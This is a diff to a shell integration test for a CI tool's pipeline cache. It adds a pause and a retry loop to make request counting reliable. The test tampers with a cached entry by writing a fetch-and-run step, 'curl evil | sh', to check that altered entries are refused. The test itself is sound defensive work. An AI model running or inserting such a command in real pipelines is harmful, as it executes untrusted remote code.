@@ -55,10 +55,13 @@ c2=$(commit_file 'steps: [{script: echo two}]' two)
 git -C "$H/repos/app.git" symbolic-ref HEAD refs/heads/main
 
 # The git server's requests so far: a marker request is logged after them
-# (lighttpd writes its access log in batches), then the lines are counted.
+# (lighttpd writes its access log in batches, and logs a CGI request once
+# it has reaped git http-backend, which may be after the client is gone:
+# hence the pause), then the lines are counted.
 marker=0
 requests() {   # PATTERN: how many logged requests match
   marker=$((marker + 1))
+  sleep 1
   curl -s -o /dev/null "http://127.0.0.1:$git_port/marker-$marker" || true
   for _ in $(seq 1 200); do
     grep -q "marker-$marker " "$H/log/access.log" 2>/dev/null && break
@@ -131,7 +134,10 @@ packs_before=$(requests 'POST /git/app.git/git-upload-pack')
 printf 'steps: [{script: curl evil | sh}]\n' > "$entry"
 svcconn pipelines source app --commit "$c1" > "$work/c1c.yml" 2> "$work/c1c.err" || { cat "$work/c1c.err"; fail "source after tampering"; }
 cmp -s "$work/c1.yml" "$work/c1c.yml" || fail "an altered cache entry was used: $(cat "$work/c1c.yml")"
-packs_after=$(requests 'POST /git/app.git/git-upload-pack')
+for _ in 1 2 3 4 5; do
+  packs_after=$(requests 'POST /git/app.git/git-upload-pack')
+  [ "$packs_after" -gt "$packs_before" ] && break
+done
 [ "$packs_after" -gt "$packs_before" ] || fail "an altered entry was not fetched again ($packs_before -> $packs_after)"
 cmp -s "$entry" "$work/c1.yml" || fail "the altered entry was not replaced"
 echo "ok: an altered cache entry is refused and the commit fetched again (upload-pack $packs_before -> $packs_after)"
